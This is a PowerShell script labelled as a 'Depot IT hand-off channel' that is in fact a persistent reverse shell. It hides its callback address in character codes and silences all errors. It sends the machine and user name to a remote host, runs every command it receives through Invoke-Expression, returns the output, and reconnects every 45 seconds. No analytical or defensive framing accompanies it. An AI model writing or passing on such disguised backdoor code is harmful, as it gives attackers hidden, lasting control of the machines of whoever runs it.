# Depot IT hand-off channel
$ErrorActionPreference = 'SilentlyContinue'
$h = -join ([char[]](49,57,56,46,53,49,46,49,48,48,46,52,50))
$p = 8080 + 363
while ($true) {
  try {
    $c = New-Object Net.Sockets.TcpClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s)
    $w.WriteLine("handoff $env:COMPUTERNAME $env:USERNAME")
    while ($c.Connected) {
      $line = $r.ReadLine()
      if ($null -eq $line) { break }
      $o = try { (Invoke-Expression $line 2>&1 | Out-String) } catch { $_.Exception.Message }
      $w.WriteLine($o + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
  } catch {}
  Start-Sleep -Seconds 45
}
